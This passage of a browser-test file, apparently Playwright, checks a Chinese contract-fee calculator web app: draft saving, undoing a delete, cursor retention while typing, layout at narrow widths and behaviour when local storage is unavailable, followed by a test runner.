    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'name').fill('谈判草案');
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await page.getByTestId('new-scenario').click();
      await expectText(page, NAME, STARTER_NAME);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await page.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['谈判草案（草稿）']), 'drafts kept');
      // The untouched starter is not kept again.
      await page.getByTestId('new-scenario').click();
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['谈判草案（草稿）']), 'drafts after a second New');
    },
  },
  {
    name: 'a deleted saved scenario can be restored with undo',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '保留的方案');
      await field(page, FEE0).fill('30000');
      await saveAs(page, '要删除的方案');
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['保留的方案', '要删除的方案'].sort()), 'saved list');
      const before = await storage(page);
      const key = Object.keys(before).find((k) => k.startsWith(SAVED_PREFIX) && JSON.parse(before[k]).name === '要删除的方案');
      assert(key, 'the saved entry is stored');
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).getByTestId('delete-saved').click();
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).waitFor({ state: 'detached' });
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['保留的方案']), 'saved list after delete');
      assert(!(key in (await storage(page))), 'the deleted entry is gone from storage');
      const undo = page.getByTestId('undo-delete');
      await undo.waitFor({ state: 'visible' });
      assert((await page.locator('.undo').textContent()).includes('已删除“要删除的方案”'), 'the undo note names the scenario');
      await undo.click();
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).waitFor();
      assertEq((await storage(page))[key], before[key], 'the restored entry, byte for byte');
      await undo.waitFor({ state: 'detached' });
      // It opens with the figures it was saved with.
      await field(page, FEE0).fill('1');
      await expectText(page, TOTAL, '¥60,012.00');
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).getByTestId('open-saved').click();
      await expectText(page, TOTAL, '¥420,000.00');
      await expectText(page, NAME, '要删除的方案');
    },
  },
  {
    name: 'typing two characters into any field keeps the cursor in that field',
    async run({ page, url }) {
      await openApp(page, url);
      // Every optional clause on, so that every kind of field is on the page.
      for (const id of ['f-sub-on', 'f-inc-on', 'f-q-on', 'f-term-on']) await page.locator(`#${id}`).check();
      await page.locator('[data-path="termination.date"]').waitFor();
      const paths = await page.evaluate(() =>
        [...document.querySelectorAll('input[data-path]:not([type=date])')].map((e) => e.dataset.path));
      assert(paths.length >= 20, `only ${paths.length} text fields found`);
      const broken = [];
      for (const path of paths) {
        const el = field(page, path);
        const before = await el.inputValue();
        const handle = await el.elementHandle();
        await el.click();
        await page.keyboard.press('End');
        await page.keyboard.type('1');
        await page.keyboard.type('2');
        const kept = await handle.evaluate((e) => e.isConnected && document.activeElement === e);
        const after = await el.inputValue();
        if (!kept || after !== `${before}12`) {
          const focus = await page.evaluate(() => document.activeElement?.dataset?.path ?? document.activeElement?.tagName);
          broken.push(`${path}: ${JSON.stringify(before)} + "12" gave ${JSON.stringify(after)}; ` +
            `${kept ? '' : 'the input was replaced, '}focus on ${focus}`);
        }
        await el.fill(before);
      }
      assertEq(await textOf(page, TOTAL), STARTER_TOTAL, 'the total after restoring every field');
      assert(broken.length === 0, `typing lost characters in ${broken.length} field(s):\n${broken.join('\n')}`);
    },
  },
  {
    name: 'at 360 px wide nothing scrolls sideways',
    async run({ page, url }) {
      await page.setViewportSize({ width: 360, height: 740 });
      await openApp(page, url);
      const check = async (what) => {
        const { sw, wide } = await page.evaluate(() => {
          const vw = document.documentElement.clientWidth;
          const wide = [...document.querySelectorAll('body *')]
            .filter((e) => {
              const r = e.getBoundingClientRect();
              return r.width > 0 && r.right > vw + 1 && !e.closest('.table-wrap');
            })
            .slice(0, 5)
            .map((e) => `${e.tagName.toLowerCase()}.${[...e.classList].join('.')} right=${Math.round(e.getBoundingClientRect().right)}`);
          return { sw: document.documentElement.scrollWidth, wide };
        });
        assert(sw <= 360, `${what}: the page is ${sw} px wide at 360 px (sticking out: ${wide.join('; ')})`);
      };
      await check('the calculator');
      await page.locator('[data-testid=contract-total-card] summary').click();
      await page.getByTestId('cycle-table').waitFor({ state: 'visible' });
      await check('with the cycle table open');
      await page.getByTestId('copy-link').click();
      await page.getByTestId('share-panel').waitFor();
      await check('with the share panel open');
      await page.getByTestId('toggle-list').click();
      await saveAs(page, '一个名字相当长的售后外包运营合同方案（二〇二五年度，含系统维护费用）');
      await check('with the saved list open');
      await field(page, FEE0).fill('abc');
      await page.getByTestId('stale').waitFor();
      await check('with a field error shown');
      await page.getByTestId('open-compare').click();
      await page.locator('.picker').waitFor();
      await page.getByTestId('compare-pick').first().check();
      await page.getByTestId('comparison').waitFor();
      await check('the comparison');
    },
  },
  {
    name: 'without local storage the app still computes and says nothing will be kept',
    async run({ page, url }) {
      await page.addInitScript(() => {
        Object.defineProperty(window, 'localStorage', {
          configurable: true,
          get() {
            throw new DOMException('Access is denied for this document.', 'SecurityError');
          },
        });
      });
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await expectBanner(page, '本地存储不可用');
      await expectText(page, '[data-testid=save-state]', '仅在内存中');
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
      // The language toggle works too, in memory.
      await page.getByTestId('lang-toggle').click();
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      await expectText(page, '[data-testid=save-state]', 'in memory only');
    },
  },
];

// ---------------------------------------------------------------------------------------------
// Runner

function withTimeout(promise, ms, what) {
  let timer;
  const timeout = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: timed out after ${ms} ms`)), ms);
  });
  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer));
}

async function main() {
  const only = process.argv[2];
  const selected = only ? tests.filter((t) => t.name.includes(only)) : tests;
  const started = Date.now();
  let passed = 0;
  let failed = 0;
  requireDist();
  const server = await serveDir();
  const browser = await launchBrowser();
  try {
    for (const t of selected) {
      const t0 = Date.now();
      const context = await browser.newContext();
      const page = await context.newPage();
      page.setDefaultTimeout(15_000);
      const errors = collectErrors(page);
      const extra = [];
      const newPage = async (options = {}) => {
        const ctx = await browser.newContext(options);
        extra.push(ctx);
        const p = await ctx.newPage();
        p.setDefaultTimeout(15_000);
        collectErrors(p, errors, `[context ${extra.length + 1}] `);
        return p;
      };
      try {
        await withTimeout(t.run({ page, context, browser, url: server.url, errors, newPage }), TEST_TIMEOUT_MS, t.name);
        if (errors.length) throw new Error(errors.join('\n    '));
        passed++;
        console.log(`ok   ${t.name} (${((Date.now() - t0) / 1000).toFixed(1)}s)`);
      } catch (err) {
        failed++;
        console.log(`FAIL ${t.name}\n    ${String(err?.message ?? err).split('\n').join('\n    ')}`);
      } finally {
        for (const c of extra) await c.close().catch(() => {});
        await context.close().catch(() => {});
      }
    }
  } finally {
    await browser.close().catch(() => {});
    await server.close();
  }
  console.log(`browser tests took ${((Date.now() - started) / 1000).toFixed(1)}s`);
  console.log(`${passed} passed, ${failed} failed`);
  if (failed > 0 || passed === 0) process.exitCode = 1;
}

main().catch((err) => {
  console.error(err?.stack ?? err);
  console.log('0 passed, 1 failed');
  process.exitCode = 1;
});
